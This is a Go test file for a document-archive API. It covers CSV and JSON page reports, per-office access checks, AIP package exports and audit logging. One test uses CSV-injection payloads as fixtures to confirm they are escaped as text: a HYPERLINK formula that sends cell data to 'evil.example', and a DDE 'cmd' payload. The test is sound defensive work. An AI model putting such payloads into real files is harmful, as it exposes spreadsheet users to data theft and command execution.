package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/sohoa-vn/sohoa/aip"
	"github.com/sohoa-vn/sohoa/storage/catalog"
	"github.com/sohoa-vn/sohoa/storage/localfs"
)

// newReportServer serves Reports' routes on a SQLite catalog holding
// batch b1 of office px1: document d1 (520 pages, signed) and d2 (failed).
func newReportServer(t *testing.T) (*httptest.Server, *catalog.DB, func(scope, office string) *Client) {
	t.Helper()
	ctx := context.Background()
	dir := t.TempDir()
	db, err := catalog.Open(ctx, "sqlite:"+filepath.Join(dir, "c.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	store, err := localfs.New(filepath.Join(dir, "blobs"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.EnsureBatch(ctx, "b1", "Hộp 1"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.ClaimBatchOffice(ctx, "b1", "px1"); err != nil {
		t.Fatal(err)
	}
	var pages []catalog.Page
	for i := 1; i <= 520; i++ {
		pages = append(pages, catalog.Page{ID: fmt.Sprintf("d1-p%04d", i), Seq: i, Format: "png", Width: 1654, Height: 2339, DPI: 200})
	}
	if _, err := db.CreateDocument(ctx, catalog.Document{ID: "d1", BatchID: "b1", SourceName: "hop1/scan_0001.tif"}, pages); err != nil {
		t.Fatal(err)
	}
	for _, p := range pages {
		if _, err := db.MarkPageOCRed(ctx, p.ID, 100, 0.91, "ocr/"+p.ID); err != nil {
			t.Fatal(err)
		}
	}
	meta := `{"issuer":{"value":"UBND PHƯỜNG 1","confidence":0.9},"number_symbol":{"value":"7/QĐ-UBND","confidence":0.8}}`
	if err := db.SetAssembled(ctx, "d1", "pdf/d1.pdf", "00", 52000, json.RawMessage(meta)); err != nil {
		t.Fatal(err)
	}
	pdf := "%PDF-1.7\n%signed\n%%EOF\n"
	info, err := store.Put(ctx, "signed/d1.pdf", strings.NewReader(pdf), int64(len(pdf)))
	if err != nil {
		t.Fatal(err)
	}
	if err := db.SetSigned(ctx, "d1", info.Key, info.SHA256, info.Size); err != nil {
		t.Fatal(err)
	}
	bad := []catalog.Page{{ID: "d2-p0001", Seq: 1, Status: catalog.PageFailed, Error: "tệp rỗng / empty file"}}
	if _, err := db.CreateDocument(ctx, catalog.Document{ID: "d2", BatchID: "b1", SourceName: "hop1/scan_0002.tif"}, bad); err != nil {
		t.Fatal(err)
	}
	rp := &Reports{DB: db, Export: &aip.Exporter{Catalog: db, Store: store, TempDir: dir}}
	s := &Server{Catalog: db, Store: store, Archive: &Archive{DB: db}, Keys: db, Reports: rp}
	ts := httptest.NewServer(s.Handler())
	t.Cleanup(ts.Close)
	client := func(scope, office string) *Client {
		token, _, err := db.CreateAPIKey(ctx, catalog.APIKey{Name: scope + "@" + office, Scopes: []string{scope}, OfficeID: office})
		if err != nil {
			t.Fatal(err)
		}
		return &Client{BaseURL: ts.URL, Token: token}
	}
	return ts, db, client
}

func TestReportCSV(t *testing.T) {
	_, _, client := newReportServer(t)
	ctx := context.Background()
	c := client("archivist", "px1")
	var buf bytes.Buffer
	if err := c.ReportCSV(ctx, "b1", &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(recs[0], ReportCSVHeader) {
		t.Fatalf("header = %v", recs[0])
	}
	if len(recs) != 1+521 {
		t.Fatalf("%d rows, want 521 pages", len(recs)-1)
	}
	col := func(row []string, name string) string { return row[slices.Index(ReportCSVHeader, name)] }
	last := recs[len(recs)-1]
	if col(last, "page_id") != "d2-p0001" || col(last, "status") != "failed" || col(last, "error") != "tệp rỗng / empty file" ||
		col(last, "document_status") != "failed" {
		t.Errorf("failed page row = %v", last)
	}
	first := recs[1]
	if col(first, "page_id") != "d1-p0001" || col(first, "confidence") != "0.9100" || col(first, "document_id") != "d1" ||
		col(first, "source_name") != "hop1/scan_0001.tif" || col(first, "document_status") != "signed" || col(first, "dpi") != "200" {
		t.Errorf("first row = %v", first)
	}

	// The JSON variant, in pages.
	var all []PageRow
	after, calls := "", 0
	for {
		pl, err := c.BatchPages(ctx, "b1", after, 200)
		if err != nil {
			t.Fatal(err)
		}
		calls++
		all = append(all, pl.Pages...)
		if pl.Next == "" {
			break
		}
		after = pl.Next
	}
	if len(all) != 521 || calls != 3 || all[520].Error != "tệp rỗng / empty file" || all[0].Confidence != 0.91 {
		t.Errorf("paged JSON: %d rows in %d calls; last %+v", len(all), calls, all[len(all)-1])
	}
	if _, err := c.BatchPages(ctx, "b1", "", 9999); !isStatus(err, http.StatusBadRequest) {
		t.Errorf("limit 9999: %v, want 400", err)
	}
}

func isStatus(err error, status int) bool {
	var e *Error
	return errors.As(err, &e) && e.Status == status
}

func TestReportAccess(t *testing.T) {
	_, _, client := newReportServer(t)
	ctx := context.Background()
	other := client("archivist", "px2")
	clerk := client("clerk", "px1")
	system := client("system", "px1")
	var buf bytes.Buffer
	for name, err := range map[string]error{
		"other office report.csv": other.ReportCSV(ctx, "b1", &buf),
		"other office aip":        other.BatchAIP(ctx, "b1", "tar", false, &buf),
		"other office dossier":    other.DossierAIP(ctx, AIPRequest{DocumentIDs: []string{"d1"}}, &buf),
		"missing batch":           client("archivist", "px1").ReportCSV(ctx, "nope", &buf),
	} {
		if !isStatus(err, http.StatusNotFound) {
			t.Errorf("%s: %v, want 404", name, err)
		}
	}
	if err := clerk.ReportCSV(ctx, "b1", &buf); !isStatus(err, http.StatusForbidden) {
		t.Errorf("clerk report.csv: %v, want 403", err)
	}
	if err := system.BatchAIP(ctx, "b1", "tar", false, &buf); !isStatus(err, http.StatusForbidden) {
		t.Errorf("system aip: %v, want 403 (archivists only)", err)
	}
	if err := system.ReportCSV(ctx, "b1", &buf); err != nil {
		t.Errorf("system report.csv: %v", err)
	}
	if buf.Len() != 0 && !strings.HasPrefix(buf.String(), "page_id,") {
		t.Errorf("report.csv starts %q", buf.String()[:20])
	}
}

func TestAIPEndpoints(t *testing.T) {
	_, db, client := newReportServer(t)
	ctx := context.Background()
	c := client("archivist", "px1")
	var buf bytes.Buffer
	if err := c.BatchAIP(ctx, "b1", "tar", true, &buf); err != nil {
		t.Fatal(err)
	}
	out := t.TempDir()
	cmd := exec.Command("tar", "-x", "-C", out)
	cmd.Stdin = &buf
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("tar -x: %v\n%s", err, b)
	}
	root := filepath.Join(out, "sohoa-b1")
	for _, m := range []string{"manifest-sha256.txt", "tagmanifest-sha256.txt"} {
		cmd := exec.Command("sha256sum", "--check", "--strict", m)
		cmd.Dir = root
		if b, err := cmd.CombinedOutput(); err != nil {
			t.Errorf("sha256sum --check %s: %v\n%s", m, err, b)
		}
	}
	mets, err := os.ReadFile(filepath.Join(root, "data", "METS.xml"))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(mets, []byte(`xlink:href="representations/rep1/data/d1.pdf"`)) || bytes.Contains(mets, []byte("d2.pdf")) {
		t.Errorf("METS.xml does not list exactly the signed document:\n%s", mets)
	}
	entries, err := db.AuditLog(ctx, catalog.AuditQuery{Action: catalog.AuditAIPExport})
	if err != nil || len(entries) != 1 || entries[0].Subject != "sohoa-b1" || entries[0].OfficeID != "px1" {
		t.Errorf("audit log of the export: %+v, %v", entries, err)
	}

	buf.Reset()
	if err := c.DossierAIP(ctx, AIPRequest{DocumentIDs: []string{"d1"}, ID: "HS-1", Format: "zip"}, &buf); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("PK\x03\x04")) || !bytes.Contains(buf.Bytes(), []byte("HS-1/METS.xml")) {
		t.Errorf("dossier zip: %d bytes, not a zip of HS-1", buf.Len())
	}
	// The dossier's export is in its office's audit log, not in an office-less entry.
	entries, err = db.AuditLog(ctx, catalog.AuditQuery{Action: catalog.AuditAIPExport, Subject: "HS-1"})
	if err != nil || len(entries) != 1 || entries[0].OfficeID != "px1" {
		t.Errorf("audit log of the dossier export: %+v, %v; want one entry of office px1", entries, err)
	}
	if seen, err := db.AuditLog(ctx, catalog.AuditQuery{Action: catalog.AuditAIPExport, Offices: []string{"px1"}}); err != nil || len(seen) != 2 {
		t.Errorf("px1's auditor sees %d exports, %v; want 2", len(seen), err)
	}
	for name, tc := range map[string]struct {
		err    error
		status int
	}{
		"nothing signed": {c.DossierAIP(ctx, AIPRequest{DocumentIDs: []string{"d2"}}, &buf), http.StatusConflict},
		"bad format":     {c.BatchAIP(ctx, "b1", "rar", false, &buf), http.StatusBadRequest},
		"bad id":         {c.DossierAIP(ctx, AIPRequest{DocumentIDs: []string{"d1"}, ID: "../../etc"}, &buf), http.StatusBadRequest},
		"no documents":   {c.DossierAIP(ctx, AIPRequest{}, &buf), http.StatusBadRequest},
		"unknown doc":    {c.DossierAIP(ctx, AIPRequest{DocumentIDs: []string{"d1", "zz"}}, &buf), http.StatusNotFound},
	} {
		if !isStatus(tc.err, tc.status) {
			t.Errorf("%s: %v, want %d", name, tc.err, tc.status)
		}
	}
}

// TestReportCSVFormulas: file names and errors that start like a formula
// (= + - @) are written so that a spreadsheet shows them as text.
func TestReportCSVFormulas(t *testing.T) {
	_, db, client := newReportServer(t)
	ctx := context.Background()
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"Bấm")`
	bad := []catalog.Page{{ID: "d3-p0001", Seq: 1, Status: catalog.PageFailed, Error: "@SUM(1+1)*cmd|' /C calc'!A0"}}
	if _, err := db.CreateDocument(ctx, catalog.Document{ID: "d3", BatchID: "b1", SourceName: evil}, bad); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := client("archivist", "px1").ReportCSV(ctx, "b1", &buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(row []string, name string) string { return row[slices.Index(ReportCSVHeader, name)] }
	var row []string
	for _, r := range recs {
		if r[0] == "d3-p0001" {
			row = r
		}
	}
	if row == nil {
		t.Fatal("no row for d3-p0001")
	}
	if got := col(row, "source_name"); got != "'"+evil {
		t.Errorf("source_name = %q, want it quoted as text", got)
	}
	if got := col(row, "error"); !strings.HasPrefix(got, "'@") {
		t.Errorf("error = %q, want it quoted as text", got)
	}
	for _, r := range recs[1:] {
		for i, c := range r {
			if c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
				t.Errorf("row %s, %s = %q starts like a formula", r[0], ReportCSVHeader[i], c)
			}
		}
	}
}
